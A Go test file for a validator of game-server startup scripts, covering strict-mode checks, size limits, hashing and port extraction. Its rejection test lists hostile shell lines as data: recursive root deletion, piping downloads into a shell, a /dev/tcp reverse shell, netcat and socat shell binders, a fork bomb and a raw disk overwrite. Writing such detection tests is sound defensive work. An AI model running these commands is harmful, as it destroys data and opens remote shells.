package script

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/firefly-engineering/hearth/internal/store"
)

const goodScript = `#!/bin/bash
set -euo pipefail

cd /data
exec ./srcds_run -game csgo -port 27015 +map de_dust2
`

func TestValidate_GoodScript(t *testing.T) {
	r := Validate(goodScript)

	if !r.Valid {
		t.Fatalf("expected valid, errors: %v", r.Errors)
	}
	if len(r.Warnings) != 0 {
		t.Errorf("unexpected warnings: %v", r.Warnings)
	}
	if r.Size != len(goodScript) {
		t.Errorf("Size = %d, want %d", r.Size, len(goodScript))
	}
	if len(r.Hash) != 64 {
		t.Errorf("Hash = %q, want 64 hex chars", r.Hash)
	}
}

func TestValidate_RequiredStructure(t *testing.T) {
	tests := []struct {
		name    string
		content string
		wantErr string
	}{
		{
			name:    "no strict mode",
			content: "#!/bin/bash\nexec ./server\n",
			wantErr: "strict mode",
		},
		{
			name:    "no exec",
			content: "#!/bin/bash\nset -e\n./server\n",
			wantErr: "exec",
		},
		{
			name:    "strict mode only in a comment",
			content: "#!/bin/bash\n# set -e\nexec ./server\n",
			wantErr: "strict mode",
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := Validate(tt.content)
			if r.Valid {
				t.Fatal("expected invalid")
			}
			if !containsSubstring(r.Errors, tt.wantErr) {
				t.Errorf("errors %v do not mention %q", r.Errors, tt.wantErr)
			}
		})
	}
}

func TestValidate_AcceptsErrexitForm(t *testing.T) {
	r := Validate("#!/bin/sh\nset -o errexit\nexec java -jar server.jar\n")
	if !r.Valid {
		t.Errorf("expected valid, errors: %v", r.Errors)
	}
}

func TestValidate_DangerousSignatures(t *testing.T) {
	lines := map[string]string{
		"root delete":        "rm -rf /",
		"root glob":          "rm -rf /*",
		"no preserve root":   "rm -r --no-preserve-root /",
		"curl pipe":          "curl -fsSL https://example.com/x.sh | bash",
		"wget pipe sudo":     "wget -qO- http://x | sudo sh",
		"eval var":           `eval "$PAYLOAD"`,
		"python shell-out":   `python3 -c "import os; os.system('id')"`,
		"perl shell-out":     `perl -e 'system("id")'`,
		"dev tcp":            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
		"netcat listener":    "nc -lvp 4444",
		"netcat exec":        "ncat 10.0.0.1 4444 -e /bin/sh",
		"chmod 777":          "chmod -R 777 /data",
		"chmod o+w":          "chmod o+w /etc/passwd",
		"dd zero":            "dd if=/dev/zero of=/data/fill bs=1M",
		"dd block device":    "dd if=image.bin of=/dev/sda",
		"fork bomb":          ":(){ :|:& };:",
		"indented delete":    "    rm -rf /",
		"chained root rm":    "true && rm -rf / && true",
		"socat shell binder": "socat TCP-LISTEN:4444 exec:/bin/sh",
		"quoted root":        `rm -rf "/"`,
		"quoted root glob":   `rm -rf '/'*`,
		"continued pipe":     "curl -fsSL http://example.com/x.sh \\\n  | bash",
		"continued rm":       "rm -rf \\\n  /",
		"chmod 666":          "chmod 666 /etc/passwd",
		"chmod 0646":         "chmod 0646 /data/world.db",
		"chmod a=rw":         "chmod a=rw /data",
		"chmod mode list":    "chmod u+x,o+w start.sh",
	}

	for name, line := range lines {
		t.Run(name, func(t *testing.T) {
			content := "#!/bin/bash\nset -euo pipefail\n" + line + "\nexec ./server\n"
			r := Validate(content)
			if r.Valid {
				t.Fatalf("expected %q to be rejected", line)
			}
			if !containsSubstring(r.Errors, "line 3") {
				t.Errorf("errors %v do not point at line 3", r.Errors)
			}
		})
	}
}

func TestValidate_HarmlessLookalikes(t *testing.T) {
	lines := []string{
		"rm -rf /data/cache",
		"rm -rf ./logs/",
		"chmod 755 start.sh",
		"echo 'curl is not used here'",
		"# rm -rf /",
		"sync",
		"dd if=backup.img of=/data/restore.img",
		"chmod 644 server.properties",
		"chmod -R g+w /data",
		"chmod go-w /data",
		"curl -fsSL -o /data/server.jar \\\n  https://example.com/server.jar",
		"echo done \\\\",
	}

	for _, line := range lines {
		t.Run(line, func(t *testing.T) {
			content := "#!/bin/bash\nset -euo pipefail\n" + line + "\nexec ./server\n"
			r := Validate(content)
			if !r.Valid {
				t.Errorf("expected %q to pass, errors: %v", line, r.Errors)
			}
		})
	}
}

func TestValidate_Warnings(t *testing.T) {
	content := `#!/bin/bash
set -euo pipefail
sudo true
apt-get install -y lib32gcc-s1
pip install mcstatus
docker ps
exec ./server
`
	r := Validate(content)
	if !r.Valid {
		t.Fatalf("warnings must not invalidate, errors: %v", r.Errors)
	}
	if len(r.Warnings) != 4 {
		t.Errorf("Warnings = %v, want 4", r.Warnings)
	}
}

func TestValidate_SizeLimit(t *testing.T) {
	content := "#!/bin/bash\nset -e\nexec ./server\n#" + strings.Repeat("x", MaxSize)
	r := Validate(content)
	if r.Valid {
		t.Fatal("oversized script should be invalid")
	}
	if !containsSubstring(r.Errors, "maximum") {
		t.Errorf("errors %v do not mention size", r.Errors)
	}

	exact := "#!/bin/bash\nset -e\nexec ./server\n"
	exact += "#" + strings.Repeat("x", MaxSize-len(exact)-1)
	if r := Validate(exact); !r.Valid {
		t.Errorf("script of exactly %d bytes rejected: %v", len(exact), r.Errors)
	}
}

func TestValidate_ContinuationKeepsStartLine(t *testing.T) {
	content := "#!/bin/bash\nset -euo pipefail\nwget -qO- http://example.com/x \\\n  -T 5 \\\n  | sh\nexec ./server\n"
	r := Validate(content)
	if r.Valid {
		t.Fatal("continued pipe into sh should be rejected")
	}
	if diff := cmp.Diff([]string{"line 3: pipes a download into a shell"}, r.Errors); diff != "" {
		t.Errorf("Errors mismatch (-want +got):\n%s", diff)
	}
}

func TestHash_Deterministic(t *testing.T) {
	a := Validate(goodScript).Hash
	b := Validate(goodScript).Hash
	if a != b {
		t.Errorf("hash not deterministic: %s vs %s", a, b)
	}

	changed := []byte(goodScript)
	changed[len(changed)-2] ^= 1
	if c := Validate(string(changed)).Hash; c == a {
		t.Error("hash unchanged after flipping one byte")
	}
}

func TestSanitize(t *testing.T) {
	got := Sanitize("#!/bin/bash\r\nset -e\rexec\x00 ./server\r\n")
	want := "#!/bin/bash\nset -e\nexec ./server\n"
	if got != want {
		t.Errorf("Sanitize = %q, want %q", got, want)
	}
}

func TestExtractPorts(t *testing.T) {
	content := `#!/bin/bash
set -euo pipefail
# PORT=1111 is ignored in comments
export SERVER_PORT=27015
QUERY_PORT=27016 # udp query
exec ./server --port 27015 -port=2302 --rcon-port "27020" --port=${PORT:-9}
`
	got := ExtractPorts(content)
	want := []store.PortSpec{
		{ContainerPort: 27015, Protocol: "tcp"},
		{ContainerPort: 27016, Protocol: "udp"},
		{ContainerPort: 2302, Protocol: "tcp"},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("ExtractPorts mismatch (-want +got):\n%s", diff)
	}
}

func TestExtractPorts_UnbalancedQuotes(t *testing.T) {
	got := ExtractPorts("PORT=7777 echo \"unterminated\n")
	if len(got) != 1 || got[0].ContainerPort != 7777 {
		t.Errorf("ExtractPorts = %v", got)
	}
}

func containsSubstring(list []string, sub string) bool {
	for _, s := range list {
		if strings.Contains(s, sub) {
			return true
		}
	}
	return false
}
